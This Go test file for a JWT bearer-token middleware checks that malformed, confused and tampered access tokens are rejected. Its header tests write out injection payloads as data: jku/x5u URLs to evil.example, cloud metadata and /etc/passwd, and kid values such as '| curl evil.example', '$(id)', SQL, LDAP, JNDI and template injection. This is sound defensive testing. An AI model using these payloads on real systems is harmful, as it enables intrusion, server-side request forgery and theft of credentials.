package middleware_test

import (
	"encoding/base64"
	"encoding/json"
	"strings"
	"testing"

	"github.com/bearerguard/bearerguard/middleware"
)

const (
	malformed      = middleware.ErrMalformedToken
	wrongAlgorithm = middleware.ErrWrongAlgorithm
	unknownKey     = middleware.ErrUnknownKey
	badSignature   = middleware.ErrBadSignature
	notAccess      = middleware.ErrNotAccessToken
	unknownIssuer  = middleware.ErrUnknownIssuer
)

// TestSerialization is about the form of a token: RFC 7515, sections 3 and 7.
func TestSerialization(t *testing.T) {
	w := newWorld(t, nil)
	token := good().token()
	part := strings.Split(token, ".")
	flat := `{"protected":"` + part[0] + `","payload":"` + part[1] + `","signature":"` + part[2] + `"}`
	general := `{"payload":"` + part[1] + `","signatures":[{"protected":"` + part[0] + `","signature":"` +
		part[2] + `"},{"protected":"` + part[0] + `","signature":"AAAA"}]}`
	// An ES256 signature ends in a character with four unused bits, and the
	// payload is given a length that leaves two or four.
	loose := func(s string) string {
		const alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
		i := strings.IndexByte(alphabet, s[len(s)-1])
		return s[:len(s)-1] + string(alphabet[i|1])
	}
	padded := good()
	for len(padded.claims.String())%3 == 0 {
		padded = padded.claim("pad", quoted(strings.Repeat("x", 1+len(padded.claims.String())%2)))
	}
	for len(padded.header.String())%3 == 0 {
		padded = padded.head("pad", quoted(strings.Repeat("x", 1+len(padded.header.String())%2)))
	}
	ps := strings.Split(padded.token(), ".")
	dots := func(n int) string { return strings.Repeat(".", n) }
	w.rejectsAll(t, []hostile{
		{"one segment", "J-01", part[0], malformed, ""},
		{"two segments", "J-01 ATK-A04", part[0] + "." + part[1], malformed, ""},
		{"four segments", "J-01", token + ".AAAA", malformed, ""},
		{"five segments", "J-01 P-06", token + ".AAAA.AAAA", malformed, ""},
		{"a dot after it", "J-01", token + ".", malformed, ""},
		{"a dot before it", "J-01", "." + token, malformed, ""},
		{"two dots in it", "J-01", part[0] + ".." + part[1] + "." + part[2], malformed, ""},
		{"no header", "J-01", "." + part[1] + "." + part[2], malformed, ""},
		{"no payload", "J-01 U-01", part[0] + ".." + part[2], malformed, ""},
		{"no signature", "J-01 ATK-A04", part[0] + "." + part[1] + ".", badSignature, ""},
		{"only dots", "J-01", "..", malformed, ""},
		{"many dots", "ATK-K01", dots(10_000), malformed, ""},
		{"flattened JSON, encoded", "J-02 P-20 ATK-C11", base64.RawURLEncoding.EncodeToString([]byte(flat)),
			malformed, ""},
		{"general JSON, encoded", "J-02 ATK-A27 ATK-C11", base64.RawURLEncoding.EncodeToString([]byte(general)),
			malformed, ""},
		{"a padded header", "J-03 ATK-C10", ps[0] + "=." + ps[1] + "." + ps[2], malformed, padded.token()},
		{"a padded signature", "J-03 ATK-C10", token + "==", malformed, ""},
		{"the other alphabet", "J-03 ATK-C10", swapAlphabet(good()), malformed, ""},
		{"a length that no encoding has", "J-03 ATK-C10", token + strings.Repeat("A", (5-len(part[2])%4)%4),
			malformed, ""},
		{"unused bits in the signature", "J-04 ATK-C10 ATK-A14 ATK-G08",
			part[0] + "." + part[1] + "." + loose(part[2]), malformed, token},
		{"unused bits in the payload", "J-04 ATK-C10", signInput("ec", "ES256", ps[0]+"."+loose(ps[1])), malformed,
			padded.token()},
		{"unused bits in the header", "J-04 ATK-C10", signInput("ec", "ES256", loose(ps[0])+"."+ps[1]), malformed,
			padded.token()},
		{"a tilde", "P-20 J-03", part[0] + "~." + part[1] + "." + part[2], malformed, ""},
		{"a plus", "P-20", part[0] + "+AAA." + part[1] + "." + part[2], malformed, ""},
		{"a JWE around a token", "T-16 P-05 P-06 ATK-C12 ATK-C13",
			encryptedForm(good().token(), `{"alg":"RSA-OAEP","enc":"A256GCM","cty":"JWT","kid":"rsa"}`),
			malformed, ""},
		{"a compressed JWE", "P-09 ATK-K04", encryptedForm("x", `{"alg":"dir","enc":"A256GCM","zip":"DEF"}`),
			malformed, ""},
		{"a JWE with a million rounds", "P-19 ATK-K03",
			encryptedForm("x", `{"alg":"PBES2-HS512+A256KW","enc":"A256GCM","p2c":2147483647,"p2s":"AAAA"}`),
			malformed, ""},
		{"a JWE with a point off its curve", "ATK-K05 ATK-K10",
			encryptedForm("x", `{"alg":"ECDH-ES","enc":"A256GCM","epk":{"kty":"EC","crv":"P-256","x":"AA","y":"AA"}}`),
			malformed, ""},
	})
	row(t, "braces, quotes, wrapping", "ATK-C18 J-02 P-20", func(t *testing.T) {
		for _, token := range []string{flat, general} {
			w.rejects(t, bearing(token), middleware.ErrMalformedRequest)
		}
		for _, token := range []string{`"` + token + `"`, "{" + token + "}", "[" + token + "]", "<" + token + ">"} {
			w.rejects(t, bearing(token), malformed)
		}
	})
	row(t, "Verify rejects line breaks too", "J-03 ATK-C09", func(t *testing.T) {
		for i := 1; i < len(token); i += 7 {
			for _, sep := range []string{"\n", "\r", "\r\n", " ", "\t"} {
				if _, err := w.auth.Verify(t.Context(), token[:i]+sep+token[i:]); reasonOf(err) != malformed {
					t.Fatalf("%q at %d: %v", sep, i, err)
				}
			}
		}
		if _, err := w.auth.Verify(t.Context(), token+"\n"); reasonOf(err) != malformed {
			t.Error(err)
		}
	})
	row(t, "every cut of a token and every changed character", "ATK-C19 ATK-K05", func(t *testing.T) {
		for i := range token {
			for _, hostile := range []string{token[:i], token[i+1:], token[:i] + token[i+1:],
				token[:i] + string(token[i]^1) + token[i+1:], token[:i] + "." + token[i:]} {
				if _, err := w.auth.Verify(t.Context(), hostile); err == nil {
					t.Fatalf("accepted: changed at %d", i)
				}
			}
		}
	})
	row(t, "the signature covers the received bytes", "J-18", func(t *testing.T) {
		d := good().rawHeader("{ \"kid\":\"\\u0065c\" ,\r\n\t\"typ\" : \"at+jwt\",\"alg\":\"ES256\"}  ").rawClaims(" " + strings.ReplaceAll(good().claims.String(), ",", " ,\n"))
		w.serves(t, bearing(d.token()), "odd white space")
		p := strings.Split(d.token(), ".")
		w.rejects(t, bearing(b64url([]byte(good().header.String()))+"."+p[1]+"."+p[2]), badSignature)
	})
	row(t, "long tokens are not read", "ATK-K02 ATK-K01 ATK-H24", func(t *testing.T) {
		long := good().claim("x", quoted(strings.Repeat("x", 200_000))).token()
		for _, token := range []string{long, strings.Repeat("a", 1<<20), dots(1 << 20),
			strings.Repeat("a", 1<<20) + ".b.c"} {
			w.rejects(t, bearing(token), malformed)
		}
		fits := good().claim("x", quoted(strings.Repeat("x", 11_000))).token()
		w.serves(t, bearing(fits), "16,000 bytes")
	})
}

// swapAlphabet returns a token whose signature has a slash where base64url has an
// underscore.
func swapAlphabet(d draft) string {
	input := d.claim("x", `"???>>>~~~"`).input()
	return signInput("ec", "ES256", strings.NewReplacer("_", "/", "-", "+").Replace(input))
}

// encryptedForm returns five segments.
func encryptedForm(inner, header string) string {
	return b64url([]byte(header)) + ".AAAA.AAAA." + b64url([]byte(inner)) + ".AAAA"
}

// TestHeader is about the JOSE header: RFC 7515, sections 4 and 5.2.
func TestHeader(t *testing.T) {
	w := newWorld(t, nil)
	g := good()
	raw := func(text string) string { return g.rawHeader(text).token() }
	deep := func(n int) string {
		return strings.Repeat(`{"a":`, n) + "1" + strings.Repeat("}", n)
	}
	w.rejectsAll(t, []hostile{
		{"a header that is an array", "J-05 T-03", raw(`[{"alg":"ES256"}]`), malformed, ""},
		{"a string", "J-05", raw(`"ES256"`), malformed, ""},
		{"null", "J-05", raw(`null`), malformed, ""},
		{"no JSON", "J-05 J-23 ATK-C16", raw(`{alg:"ES256"}`), malformed, ""},
		{"single quotes", "J-05 J-23 ATK-C16", raw(`{'alg':'ES256'}`), malformed, ""},
		{"a comma too many", "J-05 J-23 ATK-C16", raw(`{"alg":"ES256","kid":"ec",}`), malformed, ""},
		{"a comment", "J-05 J-23 ATK-C16", raw(`{"alg":"ES256"/**/,"kid":"ec"}`), malformed, ""},
		{"half an object", "J-05 J-23", raw(`{"alg":"ES256","kid":"ec"`), malformed, ""},
		{"a second value", "J-05 ATK-C05", raw(g.header.String() + "{}"), malformed, ""},
		{"something after it", "J-05 ATK-C05", raw(g.header.String() + "x"), malformed, ""},
		{"NUL after it", "J-05 ATK-C05", raw(g.header.String() + "\x00"), malformed, ""},
		{"a byte order mark", "J-05 P-10 ATK-C07", raw("\ufeff" + g.header.String()), malformed, ""},
		{"sixteen-bit text", "J-05 P-10 ATK-C07", raw(utf16(g.header.String())), malformed, ""},
		{"invalid UTF-8", "J-05 P-10 ATK-C06", g.head("x", "\"\xff\"").token(), malformed,
			g.head("x", `"é"`).token()},
		{"UTF-8 in too many bytes", "J-05 P-10 ATK-C06", g.head("x", "\"\xc1\xa1\"").token(), malformed, ""},
		{"half a surrogate pair", "J-21 ATK-C06", g.head("x", `"\ud800"`).token(), malformed,
			g.head("x", `"\ud83d\ude00"`).token()},
		{"nesting 33 deep", "J-05 ATK-C08", g.head("x", deep(32)).token(), malformed,
			g.head("x", deep(31)).token()},
		{"a number out of range", "J-05 ATK-C17", g.head("x", "1e999").token(), malformed,
			g.head("x", "1e308").token()},
		{"an endless exponent", "J-05 ATK-C17", g.head("x", "1e1000000000").token(), malformed, ""},

		{"alg twice", "J-06 ATK-C03", g.alsoHead(`"alg"`, `"ES256"`).token(), malformed, ""},
		{"alg twice, none first", "J-06 ATK-C03", g.firstHead(`"alg"`, `"none"`).token(), malformed, ""},
		{"alg twice, once by escapes", "J-06 ATK-C04", g.firstHead(`"\u0061lg"`, `"none"`).token(), malformed, ""},
		{"kid twice", "J-06 ATK-C03", g.alsoHead(`"kid"`, `"ec"`).token(), malformed, ""},
		{"typ twice", "J-06 ATK-C03", g.alsoHead(`"typ"`, `"at+jwt"`).token(), malformed, ""},
		{"anything twice", "J-06 ATK-C03", g.alsoHead(`"x"`, "1").alsoHead(`"x"`, "1").token(), malformed,
			g.alsoHead(`"x"`, "1").token()},
		{"twice within", "J-06 ATK-C03", g.head("x", `{"a":1,"a":1}`).token(), malformed,
			g.head("x", `{"a":1}`).token()},
		{"Alg in addition to alg", "J-07 ATK-C01", g.alsoHead(`"Alg"`, `"none"`).token(), malformed, ""},
		{"ALG alone", "J-07 ATK-C01", g.head("alg", "").alsoHead(`"ALG"`, `"ES256"`).token(), malformed, ""},
		{"Kid in addition to kid", "J-07 ATK-C01", g.alsoHead(`"Kid"`, `"foreign-ec"`).token(), malformed, ""},
		{"KID alone", "J-07 ATK-C01", g.head("kid", "").alsoHead(`"KID"`, `"ec"`).token(), malformed, ""},
		{"the Kelvin sign", "J-07 ATK-C02", g.alsoHead(`"\u212aid"`, `"foreign-ec"`).token(), malformed, ""},
		{"Typ", "J-07 ATK-C01", g.alsoHead(`"Typ"`, `"JWT"`).token(), malformed, ""},
		{"Crit", "J-07 ATK-C01", g.alsoHead(`"Crit"`, `["x"]`).token(), malformed, ""},
		{"two of a name in other cases", "J-07 ATK-C01", g.alsoHead(`"x"`, `1`).alsoHead(`"X"`, "1").token(),
			malformed, g.alsoHead(`"x"`, `1`).token()},

		{"no alg", "J-09 ATK-A05", g.head("alg", "").token(), malformed, ""},
		{"alg null", "J-09 ATK-A05", g.head("alg", "null").token(), malformed, ""},
		{"alg a number", "J-09 ATK-A05", g.head("alg", "256").token(), malformed, ""},
		{"alg an array", "J-09 ATK-A05", g.head("alg", `["ES256"]`).token(), malformed, ""},
		{"alg an object", "J-09 ATK-A05", g.head("alg", `{"ES256":1}`).token(), malformed, ""},
		{"alg true", "J-09 ATK-A05", g.head("alg", `true`).token(), malformed, ""},
		{"alg empty", "J-09 ATK-A02", g.head("alg", `""`).token(), malformed, ""},
		{"alg unknown", "J-09 J-19", g.head("alg", `"XX999"`).token(), wrongAlgorithm, ""},

		{"kid null", "J-13 ATK-B08", g.head("kid", "null").token(), malformed, ""},
		{"kid a number", "J-13 ATK-B08", g.head("kid", "1").token(), malformed, ""},
		{"kid true", "J-13 ATK-B08", g.head("kid", "true").token(), malformed, ""},
		{"kid an array", "J-13 ATK-B08", g.head("kid", `["ec"]`).token(), malformed, ""},
		{"kid an object", "J-13 ATK-B08", g.head("kid", `{"ec":1}`).token(), malformed, ""},
		{"kid in another case", "J-13", g.head("kid", `"EC"`).token(), unknownKey, ""},
		{"kid with a space", "J-13", g.head("kid", `"ec "`).token(), unknownKey, ""},
		{"kid with NUL", "J-13", g.head("kid", `"ec\u0000"`).token(), unknownKey, ""},
		{"cty JWT", "J-15 T-16", g.head("cty", `"JWT"`).token(), malformed,
			g.head("cty", `"application/json"`).token()},
		{"cty application/jwt", "J-15 T-16", g.head("cty", `"application/jwt"`).token(), malformed, ""},
		{"cty no string", "J-15", g.head("cty", `1`).token(), malformed, ""},

		{"crit with an unknown name", "J-16 AT-05 ATK-C15", g.head("crit", `["exp"]`).head("exp", "1").token(),
			malformed, g.head("exp", "1").token()},
		{"crit with a vendor's name", "J-16 ATK-C15",
			g.head("crit", `["http://example.com/X"]`).head("http://example.com/X", "true").token(), malformed,
			g.head("http://example.com/X", "true").token()},
		{"crit empty", "J-17 ATK-C15", g.head("crit", `[]`).token(), malformed, ""},
		{"crit null", "J-17 ATK-C15", g.head("crit", `null`).token(), malformed, ""},
		{"crit a string", "J-17 ATK-C15", g.head("crit", `"exp"`).token(), malformed, ""},
		{"crit a name twice", "J-17 ATK-C15", g.head("crit", `["x","x"]`).head("x", "1").token(), malformed, ""},
		{"crit a registered name", "J-17 ATK-C15", g.head("crit", `["alg"]`).token(), malformed, ""},
		{"crit a name that is not there", "J-17 ATK-C15", g.head("crit", `["x"]`).token(), malformed, ""},
		{"crit of numbers", "J-17 ATK-C15", g.head("crit", `[1]`).token(), malformed, ""},
		{"crit false", "J-17 ATK-C15", g.head("crit", `false`).token(), malformed, ""},
		{"b64 false, critical", "U-01 ATK-C14", g.head("b64", "false").head("crit", `["b64"]`).token(),
			malformed, ""},
		{"b64 false, critical, a payload as it is", "U-01 ATK-C14",
			signInput("ec", "ES256", strings.Split(g.head("b64", "false").head("crit", `["b64"]`).input(),
				".")[0]+"."+b64url([]byte(g.claims.String()))), malformed, ""},
		{"b64 false", "U-02 ATK-C14", g.head("b64", "false").token(), malformed, ""},
		{"b64 true", "U-02 ATK-C14", g.head("b64", "true").token(), malformed, ""},
		{"enc in three segments", "P-06", g.head("enc", `"A256GCM"`).token(), malformed, ""},
		{"zip in three segments", "P-09", g.head("zip", `"DEF"`).token(), malformed, ""},

		{"typ of a logout token", "AT-01 P-17 P-18 ATK-D14", g.head("typ", `"logout+jwt"`).token(), notAccess, ""},
		{"typ of a DPoP proof", "P-17 P-18 ATK-D14", g.head("typ", `"dpop+jwt"`).token(), notAccess, ""},
		{"typ of a security event", "P-17 P-18", g.head("typ", `"secevent+jwt"`).token(), notAccess, ""},
		{"typ of an introspection response", "P-17 P-18 ATK-D14 IN-15",
			g.head("typ", `"token-introspection+jwt"`).token(), notAccess, ""},
		{"typ of an entity statement", "P-17 P-18", g.head("typ", `"entity-statement+jwt"`).token(), notAccess, ""},
		{"typ of a request object", "P-17 P-18", g.head("typ", `"oauth-authz-req+jwt"`).token(), notAccess, ""},
		{"typ of a client assertion", "P-17 P-18 ATK-D14", g.head("typ", `"client-authentication+jwt"`).token(),
			notAccess, ""},
		{"typ rt+jwt", "P-17", g.head("typ", `"rt+jwt"`).token(), notAccess, ""},
		{"typ text/jwt", "P-17 J-14", g.head("typ", `"text/jwt"`).token(), notAccess, ""},
		{"typ with a parameter", "P-17 J-14", g.head("typ", `"at+jwt; v=1"`).token(), notAccess, ""},
		{"typ prefixed twice", "P-17 J-14", g.head("typ", `"application/application/at+jwt"`).token(),
			notAccess, ""},
		{"typ application/ and nothing more", "P-17 J-14", g.head("typ", `"application/"`).token(), notAccess, ""},
		{"typ empty", "AT-01", g.head("typ", `""`).token(), malformed, ""},
		{"typ a number", "AT-01", g.head("typ", `1`).token(), malformed, ""},
		{"typ null", "AT-01", g.head("typ", `null`).token(), malformed, ""},
		{"typ an array", "AT-01", g.head("typ", `["at+jwt"]`).token(), malformed, ""},
	})
	w.acceptsAll(t, []genuine{
		{"application/at+jwt", "J-14 P-16", g.head("typ", `"application/at+jwt"`).token()},
		{"at+JWT", "J-14 P-16 AT-01", g.head("typ", `"at+JWT"`).token()},
		{"Application/AT+jwt", "J-14", g.head("typ", `"Application/AT+jwt"`).token()},
		{"JWT", "CF-06 P-17", g.head("typ", `"JWT"`).token()},
		{"jwt", "CF-06 P-17", g.head("typ", `"jwt"`).token()},
		{"no typ", "CF-06 P-17", g.head("typ", "").token()},
		{"unknown members", "J-08", g.head("vendor", `{"a":[1,2,{"b":null}]}`).head("x", `"y"`).token()},
		{"alg by escapes", "J-07", g.head("alg", `"\u0045S256"`).token()},
		{"the name alg by escapes", "J-07", g.head("alg", "").alsoHead(`"\u0061lg"`, `"ES256"`).token()},
		{"x5t and x5t#S256", "J-12", g.head("x5t", `"AAAA"`).head("x5t#S256", `"AAAA"`).token()},
	})
	otherKey := publicJWK("foreign-ec")
	embedded, _ := json.Marshal(otherKey)
	var injected []hostile
	for _, c := range []struct {
		name, ids string
		d         draft
	}{
		{"jwk", "J-11 ATK-B01 ATK-B02", g.head("jwk", string(embedded))},
		{"x5c", "J-12 ATK-B02", g.head("x5c", `["`+b64url([]byte("certificate"))+`"]`)},
	} {
		injected = append(injected, hostile{c.name + " with another key", c.ids,
			c.d.by("foreign-ec", "ES256").token(), badSignature, c.d.token()},
			hostile{c.name + " with another key, no kid", c.ids, c.d.head("kid", "").by("foreign-ec", "ES256").token(),
				badSignature, c.d.token()})
	}
	for _, url := range []string{
		"https://evil.example/jwks", "https://id.example.com@evil.example/jwks",
		"https://evil.example#@id.example.com/jwks", "http://169.254.169.254/latest/meta-data",
		"file:///etc/passwd", "gopher://127.0.0.1:70/_", "http://[::1]/", "http://2130706433/", "//evil.example",
		theIssuer + "/redirect?to=https://evil.example",
	} {
		for _, name := range []string{"jku", "x5u"} {
			d := g.head(name, quoted(url))
			injected = append(injected, hostile{name + " " + url, "J-10 P-15 ATK-B03 ATK-B04",
				d.by("foreign-ec", "ES256").token(), badSignature, d.token()})
		}
	}
	for _, kid := range []string{
		"../../../dev/null", "/dev/null", "' OR '1'='1", "x' UNION SELECT 'key'--", "| curl evil.example", "$(id)",
		"*)(uid=*", "{{7*7}}", "${jndi:ldap://evil.example}",
		"https://evil.example/jwks", "kid-of-the-attacker\r\nX: y", strings.Repeat("k", 9000), "\u202eec",
	} {
		injected = append(injected, hostile{"kid " + kid[:min(20, len(kid))], "P-14 ATK-B05 ATK-B06 ATK-B07",
			g.head("kid", quoted(kid)).by("foreign-ec", "ES256").token(), unknownKey, ""})
	}
	w.rejectsAll(t, injected)
	odd := newWorld(t, nil)
	odd.acceptsAll(t, []genuine{{"a kid is a name and nothing else", "J-13 P-14 ATK-B05",
		odd.keyed("../../\"quoted\"?x#y")}})
}

// keyed publishes one more key with an odd key ID and returns a token that it signed.
func (w *world) keyed(kid string) string {
	w.origin.set(theIssuer+"/jwks", keySet(jwkWith("ec"), jwkWith("ec-other", "kid", kid)))
	return good().head("kid", quoted(kid)).by("ec-other", "ES256").token()
}

// utf16 returns ASCII text in UTF-16, little endian.
func utf16(text string) string {
	var b strings.Builder
	for _, c := range text {
		b.WriteByte(byte(c))
		b.WriteByte(0)
	}
	return b.String()
}
